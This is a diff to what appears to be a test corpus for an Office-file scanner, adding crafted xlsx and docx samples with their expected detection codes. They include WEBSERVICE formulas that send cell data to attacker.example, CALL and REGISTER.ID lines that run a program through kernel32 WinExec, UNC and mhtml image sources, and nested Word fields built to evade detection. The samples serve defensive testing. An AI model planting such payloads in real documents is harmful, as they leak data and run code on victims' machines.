@@ -55,6 +55,14 @@ import {
   wordVbaData,
 } from '../../fixtures/active-office.ts';
 import {
+  binarySheet,
+  documentVml,
+  formControlFormula,
+  nestedField,
+  sheetWith,
+  workbookVml,
+} from '../../fixtures/active-office.ts';
+import {
   ofdAnnotationAction,
   ofdEncodedAction,
   ofdFontFile,
@@ -905,6 +913,7 @@ const officeItems: CorpusItem[] = [
     expect: 'OOXML_EXTERNAL',
   },
   ...hiddenOfficeItems(),
+  ...reachingOfficeItems(),
 ];
 
 /**
@@ -1395,6 +1404,168 @@ function hiddenOfficeItems(): CorpusItem[] {
   ];
 }
 
+/**
+ * Office content that reaches out by other ways (round 6): worksheet functions that start a
+ * program or fetch a URL as the sheet recalculates (RTD, CALL, REGISTER.ID, EVALUATE, WEBSERVICE,
+ * IMAGE) wherever a formula is, a sheet in Excel's binary form, VML shapes naming a picture's
+ * source directly, and a Word field whose name a nested field computes.
+ */
+function reachingOfficeItems(): CorpusItem[] {
+  const item = (id: string, category: string, bytes: () => Promise<Buffer>, expect: FindingCode): CorpusItem => ({
+    id,
+    category,
+    declared: id.startsWith('xlsx') ? 'xlsx' : 'docx',
+    bytes,
+    expect,
+  });
+  const FUNCTION = 'Worksheet function that reaches out';
+  const VML = 'VML source outside the package';
+  const NESTED = 'Field named by a nested field';
+  const q = (text: string) => `&quot;${text}&quot;`;
+  const rtd = `RTD(${q('attacker.rtdserver')},,${q('x')})`;
+  const webservice = `_xlfn.WEBSERVICE(${q('http://attacker.example/?d=')}&amp;A2)`;
+  const unc = '\\\\attacker.example\\x.png';
+  return [
+    item('xlsx-rtd-formula', FUNCTION, () => sheetWithFormula(rtd), 'OOXML_DDE'),
+    item('xlsx-webservice-formula', FUNCTION, () => sheetWithFormula(webservice), 'OOXML_EXTERNAL'),
+    item(
+      'xlsx-image-formula',
+      FUNCTION,
+      () => sheetWithFormula(`_xlfn.IMAGE(${q('https://attacker.example/p.png')})`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-call-defined-name',
+      FUNCTION,
+      () => definedNameFormula(`CALL(${q('kernel32')},${q('WinExec')},${q('JCJ')},${q('calc')},0)`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-register-id-formula',
+      FUNCTION,
+      () => sheetWithFormula(`REGISTER.ID(${q('kernel32')},${q('WinExec')},${q('JCJ')})`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-evaluate-built-call',
+      FUNCTION,
+      () => definedNameFormula(`EVALUATE(${q('R')}&amp;${q('TD(')}&amp;A1&amp;${q(')')})`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-webservice-lowercase-spaced',
+      FUNCTION,
+      () => sheetWithFormula(`_xlfn.webservice (${q('http://attacker.example/')})`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-rtd-character-references',
+      FUNCTION,
+      () => sheetWithFormula(`&#82;TD&#40;${q('x')},,${q('y')})`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-rtd-shared-formula',
+      FUNCTION,
+      () =>
+        office('xlsx', {
+          'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f t="shared" ref="A1:A9" si="0">${rtd}</f><v>0</v></c><c r="A2"><f t="shared" si="0"/><v>0</v></c></row></sheetData></worksheet>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-webservice-conditional-format',
+      FUNCTION,
+      () =>
+        sheetWith(
+          `<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>LEN(${webservice})&gt;0</formula></cfRule></conditionalFormatting>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-rtd-data-validation',
+      FUNCTION,
+      () =>
+        sheetWith(
+          `<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>${rtd}=1</formula1></dataValidation></dataValidations>`,
+        ),
+      'OOXML_DDE',
+    ),
+    item('xlsx-rtd-form-control-link', FUNCTION, () => formControlFormula(rtd), 'OOXML_DDE'),
+    item('xlsx-binary-sheet-override', 'OOXML unreadable', () => binarySheet('override'), 'OOXML_UNREADABLE'),
+    item('xlsx-binary-sheet-default', 'OOXML unreadable', () => binarySheet('default'), 'OOXML_UNREADABLE'),
+    item(
+      'docx-vml-imagedata-unc',
+      VML,
+      () => documentVml(`<v:shape style="width:9pt;height:9pt"><v:imagedata src="${unc}"/></v:shape>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vml-fill-file-url',
+      VML,
+      () => documentVml('<v:shape><v:fill type="frame" o:href="file://attacker.example/share/x.png"/></v:shape>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-vml-imagedata-mhtml',
+      VML,
+      () => documentVml('<v:shape><v:imagedata src="mhtml:http://attacker.example/x.mht!x.png"/></v:shape>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-vml-comment-fill-unc',
+      VML,
+      () => workbookVml(`<v:shape type="#_x0000_t202"><v:fill o:relid="rId1" src="${unc}" type="frame"/></v:shape>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-vml-drawing-outside-xl',
+      VML,
+      () => workbookVml(`<v:shape><v:imagedata src="${unc}"/></v:shape>`, 'drawings/d.vml'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-vml-type-on-xml-name',
+      'OOXML unreadable',
+      () => workbookVml(`<v:shape><v:imagedata src="${unc}"/></v:shape>`, 'xl/drawings/d.xml', true),
+      'OOXML_UNREADABLE',
+    ),
+    item(
+      'docx-field-name-from-nested-quote',
+      NESTED,
+      () => documentWith(nestedField('', ' QUOTE "INCLUDE" ', `PICTURE "${unc}" \\d `)),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-field-name-completed-by-nested',
+      NESTED,
+      () => documentWith(nestedField(' DD', ' QUOTE "E" ', 'AUTO c:\\x.exe "a" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-field-name-and-path-nested',
+      NESTED,
+      // Both name and path computed: `{QUOTE 92 92 …}` spells a UNC path from character codes.
+      () => {
+        const path = [...'\\\\attacker.example\\x.png'].map((c) => c.charCodeAt(0)).join(' ');
+        const field = nestedField('', ' QUOTE "INCLUDEPICTURE" ', ' ');
+        const end = field.indexOf('<w:r><w:fldChar w:fldCharType="separate"/>');
+        return documentWith(`${field.slice(0, end)}${complexField(` QUOTE ${path} `)}${field.slice(end)}`);
+      },
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-field-name-from-nested-simple-field',
+      NESTED,
+      () =>
+        documentWith(
+          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:fldSimple w:instr=" QUOTE &quot;INCLUDE&quot; "/><w:r><w:instrText>PICTURE "${unc}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
+        ),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
 /** Whitespace that does not compress like a bomb (spaces, tabs and line ends at random). */
 function whitespace(length: number): string {
   return Array.from(randomBytes(length), (byte) => ' \t\r\n'[byte & 3]).join('');
@@ -1812,6 +1983,45 @@ export const ACTIVE_GENUINE: readonly {
         `<w:p>${inlinePicture('r:embed="rId8"', '<a:hlinkClick r:id="rId7"/>')}</w:p>`,
         [rel('rId7', 'hyperlink', 'https://www.miit.gov.cn/', true), rel('rId8', 'image', 'media/image1.png')],
         { relsFirst: true, add: [{ name: 'word/media/image1.png', data: Buffer.from('89504e470d0a1a0a', 'hex') }] },
+      ),
+    warning: 'EXTERNAL_LINK',
+  },
+  // Look-alikes of round 6's items: functions named in strings, nested fields in formulas and
+  // results, a comment's VML drawing, a VML shape linking to a web page.
+  {
+    id: 'xlsx-functions-named-in-strings',
+    declared: 'xlsx',
+    bytes: () =>
+      sheetWithFormula(
+        'IF(A1=&quot;RTD(x)&quot;,SUM(B1:B9),_xlfn.CONCAT(&quot;IMAGE(&quot;,A2,&quot;WEBSERVICE(&quot;))&amp;VLOOKUP(A3,B:C,2,FALSE)&amp;HYPERLINK(&quot;https://www.miit.gov.cn/&quot;)',
+      ),
+  },
+  {
+    id: 'docx-nested-fields-with-named-outer',
+    declared: 'docx',
+    bytes: () =>
+      documentWith(
+        nestedField(' = ', ' PAGE ', ' + 1 ') +
+          nestedField('=', ' NUMPAGES ', '*2') +
+          nestedField(' IF ', ' MERGEFIELD 类别 ', ' = "国家级" "是" "否" ') +
+          // A table of contents: its result holds PAGEREF fields, after its `separate`.
+          complexField(' TOC \\o "1-3" \\h ').replace('<w:r><w:t>1</w:t></w:r>', complexField(' PAGEREF _Toc1 \\h ')),
+      ),
+  },
+  {
+    id: 'xlsx-comment-vml-drawing',
+    declared: 'xlsx',
+    bytes: () =>
+      workbookVml(
+        '<v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe"><v:stroke joinstyle="miter"/><v:path gradientshapeok="t" o:connecttype="rect"/></v:shapetype><v:shape id="_x0000_s1025" type="#_x0000_t202" fillcolor="#ffffe1"><v:fill color2="#ffffe1"/><v:imagedata o:relid="rId1" o:title="图片"/><x:ClientData ObjectType="Note"><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>',
+      ),
+  },
+  {
+    id: 'docx-vml-shape-web-link',
+    declared: 'docx',
+    bytes: () =>
+      documentVml(
+        '<v:shape href="https://www.miit.gov.cn/" style="width:9pt;height:9pt"><v:fill color="red"/></v:shape>',
       ),
     warning: 'EXTERNAL_LINK',
   },
